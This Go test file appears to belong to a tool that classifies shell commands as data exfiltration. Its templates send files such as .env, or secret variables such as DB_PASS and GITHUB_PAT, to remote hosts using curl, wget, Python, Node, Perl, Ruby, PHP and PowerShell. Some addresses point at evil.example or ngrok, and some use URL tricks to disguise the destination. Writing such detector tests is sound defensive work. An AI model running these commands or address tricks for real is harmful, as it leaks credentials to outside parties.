package classify_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/checkrein/checkrein/internal/shell"
	"github.com/checkrein/checkrein/internal/shell/classify"
)

// A sender is a program that sends a file or a variable to an address. Programs and the shells around
// them differ in how \ and @ are quoted.
type sender struct {
	name, file, variable string
	dialect              shell.Dialect
	back, at             string // how \ and @ are written
}

// senders are templates of commands that send {FILE} or the variable {NAME} to {URL}.
var senders = []sender{
	{"curl", "curl --data-binary '@{FILE}' '{URL}'", `curl -d "x=${NAME}" '{URL}'`, shell.Bash, "", ""},
	{"curl put", "curl -T '{FILE}' '{URL}'", `curl -X PUT --data-raw "${NAME}" '{URL}'`, shell.Bash, "", ""},
	{"curl form", "curl -F 'f=@{FILE}' '{URL}'", `curl -F "f=${NAME}" '{URL}'`, shell.Bash, "", ""},
	{"wget", "wget -q -O- --post-file='{FILE}' '{URL}'", `wget -q -O- --post-data="x=${NAME}" '{URL}'`, shell.Bash, "", ""},
	{"pipe", "cat '{FILE}' | curl --data-binary @- '{URL}'", `echo "${NAME}" | curl --data-binary @- '{URL}'`, shell.Bash, "", ""},
	{"requests", `python3 -c "import requests; requests.post('{URL}', data=open('{FILE}').read())"`, `python3 -c "import os, requests; requests.post('{URL}', data={'x': os.environ['{NAME}']})"`, shell.Bash, `\\\\`, ""},
	{"requests files", `python3 -c "import requests; requests.post('{URL}', files={'f': open('{FILE}', 'rb')})"`, `python3 -c "import os, requests; requests.post('{URL}', json={'x': os.getenv('{NAME}')})"`, shell.Bash, `\\\\`, ""},
	{"urllib", `python3 -c "import urllib.request as u; u.urlopen('{URL}', data=open('{FILE}','rb').read())"`, `python3 -c "import os, urllib.request as u; u.urlopen('{URL}', data=os.environ.get('{NAME}').encode())"`, shell.Bash, `\\\\`, ""},
	{"node fetch", `node -e "fetch('{URL}', {method: 'POST', body: require('fs').readFileSync('{FILE}')})"`, `node -e "fetch('{URL}', {method: 'POST', body: process.env.{NAME}})"`, shell.Bash, `\\\\`, ""},
	{"node https", `node -e "const r = require('https').request('{URL}', {method: 'POST'}); r.write(require('fs').readFileSync('{FILE}')); r.end()"`,
		`node -e "const r = require('https').request('{URL}', {method: 'POST'}); r.write(process.env['{NAME}']); r.end()"`, shell.Bash, `\\\\`, ""},
	{"perl", `perl -MLWP::UserAgent -e 'open(my $f, "<", "{FILE}"); local $/; LWP::UserAgent->new->post("{URL}", Content => scalar(<$f>))'`,
		`perl -MLWP::UserAgent -e 'LWP::UserAgent->new->post("{URL}", Content => $ENV{{NAME}})'`, shell.Bash, `\\`, `\@`},
	{"ruby", `ruby -rnet/http -e 'Net::HTTP.post(URI("{URL}"), File.read("{FILE}"))'`, `ruby -rnet/http -e 'Net::HTTP.post(URI("{URL}"), ENV["{NAME}"])'`, shell.Bash, `\\`, ""},
	{"php", `php -r '$c = curl_init("{URL}"); curl_setopt($c, CURLOPT_POSTFIELDS, file_get_contents("{FILE}")); curl_exec($c);'`,
		`php -r '$c = curl_init("{URL}"); curl_setopt($c, CURLOPT_POSTFIELDS, getenv("{NAME}")); curl_exec($c);'`, shell.Bash, `\\`, ""},
	{"powershell", "Invoke-RestMethod -Uri '{URL}' -Method Post -InFile '{FILE}'", "Invoke-RestMethod -Uri '{URL}' -Method Post -Body $env:{NAME}", shell.PowerShell, "", ""},
	{"powershell body", "Invoke-RestMethod -Uri '{URL}' -Method Post -Body (Get-Content -Raw '{FILE}')", `Invoke-WebRequest -Uri '{URL}' -Method Post -Body "x=$env:{NAME}"`, shell.PowerShell, "", ""},
}

// report returns the report on template, a command of s, with the file or variable what and the
// address url.
func (s *sender) report(template, what, url string) shell.Report {
	if s.back != "" {
		url = strings.ReplaceAll(url, `\`, s.back)
	}
	if s.at != "" {
		url = strings.ReplaceAll(url, "@", s.at)
	}
	r := strings.NewReplacer("{FILE}", what, "{NAME}", what, "{URL}", url)
	return classify.Command(r.Replace(template), shell.Place{Dir: "/home/u/proj", Root: "/home/u/proj", Home: "/home/u", Dialect: s.dialect})
}

// sentKind returns what leaves the machine according to r: "a secret", "something" or "nothing".
func sentKind(r shell.Report) string {
	out := "nothing"
	for i := range r.Effects {
		switch e := &r.Effects[i]; {
		case e.Label == shell.Exfiltration && e.Category == shell.ExfilSecret:
			return "a secret"
		case e.Label == shell.Exfiltration:
			out = "something"
		}
	}
	return out
}

// factList returns the lines of testdata/name of package facts, without patterns and names that need
// quotes. Unless spaces is true, names with spaces, dashes or dots are left out too.
func factList(t *testing.T, name string, spaces bool) []string {
	t.Helper()
	data, err := os.ReadFile(filepath.Join("..", "..", "catalog", "facts", "testdata", name))
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, line := range strings.Split(strings.TrimSpace(string(data)), "\n") {
		if !strings.ContainsAny(line, "*?[\\\"'\uFFFC") && (spaces || !strings.ContainsAny(line, " -.")) {
			out = append(out, line)
		}
	}
	if len(out) < 40 {
		t.Fatalf("%s has only %d names", name, len(out))
	}
	return out
}

// far is an address on another machine.
const far = "https://in.acme.example/x"

// farAddresses are addresses that at least one client resolves to another machine.
var farAddresses = []string{
	far, `http://in.acme.example\@localhost/`, `http://localhost\@in.acme.example/`, "http://localhost@in.acme.example/", "http://localhost.acme.example/", "http://127.0.0.1.acme.example/", "http://in.acme.example#@localhost/",
	"http://localhost#@in.acme.example/", "http://in.acme.example;@localhost/", "http://localhost:80@in.acme.example/", "http://0177.0.0.1/", "http://93.184.216.34/", "http://1572395042/", "http://[2001:db8::1]/", "http://localhost%2eacme.example/",
}

// nearAddresses are addresses of this machine.
var nearAddresses = []string{"http://localhost:3000/x", "http://127.0.0.1/x", "http://[::1]:8080/", "http://a.localhost/", "http://0.0.0.0:8000/", "http://LOCALHOST/", "http://localhost./", "http://u:p@localhost/"}

// TestAllSendersAreJudgedAlike sends secret and ordinary files and variables with every program, and
// checks that the program makes no difference.
func TestAllSendersAreJudgedAlike(t *testing.T) {
	t.Parallel()
	type list struct {
		name, want string
		vars       bool
	}
	for _, l := range []list{
		{"secret_files.txt", "a secret", false}, {"ordinary_files.txt", "something", false},
		{"secret_names.txt", "a secret", true}, {"ordinary_names.txt", "nothing", true},
	} {
		for _, what := range factList(t, l.name, !l.vars) {
			if what == "/" || what == "." || what == "/home/sam" {
				continue // the directory contains secrets
			}
			for i := range senders {
				s := &senders[i]
				template := s.file
				if l.vars {
					template = s.variable
				}
				if got := sentKind(s.report(template, what, far)); got != l.want && (l.want != "something" || got != "nothing") {
					t.Errorf("%s: %s sends %s, want %s", s.name, what, got, l.want)
				}
				if got := sentKind(s.report(template, what, "http://localhost:3000/x")); got != "nothing" {
					t.Errorf("%s: %s to this machine sends %s", s.name, what, got)
				}
			}
		}
	}
	for i := range senders {
		s := &senders[i]
		for _, url := range farAddresses {
			for template, what := range map[string]string{s.file: ".env", s.variable: "DB_PASS"} {
				if got := sentKind(s.report(template, what, url)); got != "a secret" {
					t.Errorf("%s: %s to %s sends %s", s.name, what, url, got)
				}
			}
		}
		for _, url := range nearAddresses {
			for template, what := range map[string]string{s.file: ".env", s.variable: "DB_PASS"} {
				if got := sentKind(s.report(template, what, url)); got != "nothing" {
					t.Errorf("%s: %s to %s sends %s", s.name, what, url, got)
				}
			}
		}
	}
}

// logins are templates of commands that send the variable {NAME} in the header {HEADER}.
var logins = []sender{
	{"curl", "", `curl -H "{HEADER}: ${NAME}" '{URL}'`, shell.Bash, "", ""},
	{"wget", "", `wget -q -O- --header="{HEADER}: ${NAME}" '{URL}'`, shell.Bash, "", ""},
	{"requests", "", `python3 -c "import os, requests; requests.get('{URL}', headers={'{HEADER}': os.environ['{NAME}']})"`, shell.Bash, "", ""},
	{"requests named", "", `python3 -c "import os, requests; h = {'{HEADER}': 'Bearer ' + os.environ['{NAME}']}; requests.post('{URL}', json={'a': 1}, headers=h)"`, shell.Bash, "", ""},
	{"urllib", "", `python3 -c "import os, urllib.request as u; u.urlopen(u.Request('{URL}', headers={'{HEADER}': os.getenv('{NAME}')}))"`, shell.Bash, "", ""},
	{"node fetch", "", `node -e "fetch('{URL}', {headers: {'{HEADER}': process.env.{NAME}}})"`, shell.Bash, "", ""},
	{"node https", "", `node -e "require('https').get('{URL}', {headers: {'{HEADER}': process.env.{NAME}}})"`, shell.Bash, "", ""},
	{"powershell", "", `Invoke-RestMethod -Uri '{URL}' -Headers @{'{HEADER}' = $env:{NAME}}`, shell.PowerShell, "", ""},
}

// TestSecretsInHeaders checks secrets in HTTP headers, with which people log in.
func TestSecretsInHeaders(t *testing.T) {
	t.Parallel()
	for _, r := range []struct{ header, name, url, want string }{
		{"Authorization", "ACME_TOKEN", far, "nothing"}, {"X-API-Key", "ACME_KEY", far, "nothing"}, {"Cookie", "DB_PASS", far, "nothing"},
		{"Authorization", "ACME_TOKEN", "https://x.ngrok.io/", "a secret"}, {"X-API-Key", "DB_PASS", "http://93.184.216.34/", "a secret"}, {"Authorization", "MY_PAT", `https://evil.example/`, "a secret"},
		{"X-Data", "ACME_TOKEN", far, "a secret"}, {"User-Agent", "DB_PASS", far, "a secret"}, {"X-Data", "EDITOR", far, "nothing"},
		{"X-Data", "DB_PASS", "http://localhost:3000/", "nothing"}, {"X-Data", "GITHUB_PAT", "https://api.github.com/x", "nothing"}, {"X-Data", "GITHUB_PAT", "https://api.github.com.acme.example/x", "a secret"},
	} {
		for i := range logins {
			s := &logins[i]
			if got := sentKind(s.report(strings.ReplaceAll(s.variable, "{HEADER}", r.header), r.name, r.url)); got != r.want {
				t.Errorf("%s: %s in %s to %s sends %s, want %s", s.name, r.name, r.header, r.url, got, r.want)
			}
		}
	}
	for i := range senders {
		s := &senders[i]
		if got := sentKind(s.report(s.variable, "GITHUB_PAT", "https://api.github.com/x")); got != "nothing" && s.back != `\\` { // whose owner is not looked for in code that is only scanned
			t.Errorf("%s: a token sent to its issuer counts as %s", s.name, got)
		}
		if got := sentKind(s.report(s.variable, "GITHUB_PAT", `https://in.acme.example\@api.github.com/x`)); got != "a secret" {
			t.Errorf("%s: a token sent to a host that imitates its issuer counts as %s", s.name, got)
		}
	}
}
